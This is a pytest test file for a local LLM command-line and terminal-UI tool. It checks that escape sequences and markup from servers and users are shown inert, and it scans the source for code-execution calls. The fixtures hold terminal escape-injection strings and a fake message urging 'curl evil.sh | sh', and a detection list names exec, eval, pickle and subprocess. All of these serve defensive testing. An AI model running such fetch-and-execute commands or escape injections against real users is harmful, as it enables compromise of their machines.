"""What servers and users type reaches the screen inert: escape sequences and line breaks in a server's model ids
and error messages are shown escaped on one `error:` line, and Textual markup in a conversation title or a model
name is shown as typed instead of crashing the app (MarkupError)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from conftest import run_cli, settings_for
from helpers.fake_http import JsonHandler, serving
from helpers.tui_helpers import ask, run, wait_until

from localllm.core.options import preset
from localllm.tui.app import LocalLLMApp
from localllm.tui.chat import ChatPane

HOSTILE_ID = "evil\x1b]0;pwned\x07[/bold]\x1b[2J"
HOSTILE_ERROR = "bad request\n\x1b[31mFAKE: your key expired, run curl evil.sh | sh\x1b[0m"


class HostileHandler(JsonHandler):
    """A fake OpenAI-compatible server (no real one is hostile on purpose): `/v1/models` in the wire format with a
    model id full of escape sequences, and every completion a 400 in OpenAI's error format with more of them."""

    def do_GET(self) -> None:
        self.answer(200, {"object": "list", "data": [{"id": HOSTILE_ID, "object": "model"}]})

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if not self.path.endswith("/chat/completions"):
            self.answer(404, {"error": {"message": "not here"}})
            return
        self.answer(400, {"error": {"message": HOSTILE_ERROR, "type": "invalid_request_error"}})


@pytest.fixture
def hostile_server():
    with serving(HostileHandler) as url:
        yield url


def assert_one_inert_line(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    assert "\x1b" not in stderr and "\x07" not in stderr
    return lines[0]


def test_server_model_ids_in_an_error_are_inert(hostile_server: str, home: Path) -> None:
    done = run_cli("run", "-b", "openai", "--base-url", hostile_server, "-m", "nope", "Hello", home=home)
    assert done.returncode == 1
    line = assert_one_inert_line(done.stderr_text)
    assert "evil\\x1b]0;pwned\\x07[/bold]\\x1b[2J" in line


def test_a_server_error_message_is_one_inert_line(hostile_server: str, home: Path) -> None:
    done = run_cli("run", "-b", "openai", "--base-url", hostile_server, "Hello", home=home)
    assert done.returncode == 1
    line = assert_one_inert_line(done.stderr_text)
    assert "bad request\\n\\x1b[31mFAKE" in line


@pytest.mark.model
def test_markup_and_escapes_in_a_conversation_title_are_shown_as_typed(tmp_path: Path) -> None:
    settings = settings_for(tmp_path)
    question = "What does [/bold] close? \x1b[2J"

    async def session():
        app = LocalLLMApp(settings, preset("precise").with_overrides(max_tokens=4))
        async with app.run_test(size=(120, 40)) as pilot:
            pane = app.query_one(ChatPane)
            turns = await ask(pilot, pane, question)
            await wait_until(pilot, lambda: not pane.generating and pane.session.stats.turns > turns)
            await pilot.pause()
            title = pane.query_one("#conversations").children[0].query_one("Label")
            return str(title.render())

    assert run(session()) == "What does [/bold] close? \\x1b[2J"


# Where localllm starts processes, and why; nothing else may. Documents, answers and model files are data: a task
# that ran code from them would have to call one of these.
PROCESS_STARTERS = {
    "localllm/backends/chat_templates.py": "the bounded template renderer: this package's own module",
    "localllm/backends/llamacpp_check.py": "the llama.cpp self-check: this package's own module",
    "localllm/hardware/detect.py": "nvidia-smi, rocm-smi and sysctl with fixed arguments",
    "localllm/tasks/quantize.py": "llama.cpp's quantizer: this package's own module, paths as arguments",
    "localllm/server/runner.py": "serve's runner: pickles to and from its parent only, over their socket pair",
    "localllm/server/runner_engine.py": "serve's runners: this package's own module, its messages pickled over "
                                        "a socket pair nobody else holds",
}
PICKLES = {"localllm/server/runner.py", "localllm/server/runner_engine.py"}
"""Requests and answers cross between serve and its runners as pickles: both ends are this package, the socket
pair is theirs alone, and what a client sent is in them as our own types' fields, never as code."""
CODE_RUNNERS = ("subprocess", "os.system", "os.popen", "os.exec", "os.spawn", "eval(", "exec(", "pickle",
                "shell=True", "__import__(", "runpy")
# Python's own eval and exec, not a method of that name (llama-cpp-python's Llama.eval reads tokens).
BUILTIN_CALL = {word: re.compile(rf"(?<![\w.]){re.escape(word)}") for word in ("eval(", "exec(")}


def test_no_task_runs_code_from_its_input() -> None:
    root = Path(__file__).resolve().parents[2]
    found = {}
    for path in sorted((root / "localllm").rglob("*.py")):
        source = path.read_text(encoding="utf-8")
        used = [word for word in CODE_RUNNERS
                if (BUILTIN_CALL[word].search(source) if word in BUILTIN_CALL else word in source)]
        if used:
            found[str(path.relative_to(root))] = used
    assert set(found) == set(PROCESS_STARTERS), found
    assert all(set(used) <= {"subprocess"} | ({"pickle"} if path in PICKLES else set())
               for path, used in found.items()), found
